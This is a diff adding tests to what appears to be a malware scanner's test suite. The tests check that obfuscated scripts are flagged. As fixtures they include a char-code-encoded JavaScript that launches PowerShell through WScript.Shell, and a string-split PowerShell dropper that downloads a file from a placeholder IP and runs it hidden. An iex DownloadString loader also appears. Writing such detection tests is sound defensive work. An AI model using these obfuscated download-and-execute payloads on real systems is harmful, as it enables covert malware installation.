@@ -211,3 +211,25 @@ suite('harmless', () => {
   ]
   for (const [name, bytes] of cases) test(name, () => harmless(bytes))
 })
+
+suite('a script without a telling word', () => {
+  test('in JavaScript from numbers', () => {
+    const codes = [...'new ActiveXObject("WScript.Shell").Run("powershell -enc AAAA")'].map((c) => c.charCodeAt(0) * 3)
+    const source = `var m=[${codes}];var r="";for(var i=0;i<m.length;i++){r+=String.fromCharCode(m[i]/3)}\n(function(){}).constructor(r)();`
+    has(packed('a.js', source), 'Script.Program')
+  })
+  test('in PowerShell from pieces', () => {
+    const source =
+      "$e=('{2}{0}{1}'-f'bCli','ent','Net.We');$w=N`e`w-Ob`ject $e;$w.(\"Dow\"+\"nload\"+\"File\").Invoke(('h'+'ttp://192.0.2.1/s'),$p);&('sta'+'rt-Pro'+'cess') $p -Win`dowStyle Hid`den\n"
+    has(packed('a.ps1', source), 'Script.Dropper')
+  })
+  test('that formats texts is harmless', () =>
+    harmless(packed('a.ps1', "$t = '{0} of {1}' -f 'one', 'two'\nWrite-Output $t\n")))
+})
+
+test('PowerShell that begins with a function is no JavaScript', () => {
+  const source = 'function Get-It {\n  param($u)\n  $c = New-Object Net.WebClient\n  iex $c.DownloadString($u)\n}\n'
+  const rest = '$url = "http://192.0.2.1/a"\nGet-It $url\n'.repeat(3)
+  has(Buffer.from(`function f {}\n${source}${rest}`), 'Script.Dropper')
+  has(Buffer.from(source + rest), 'Script.Dropper')
+})
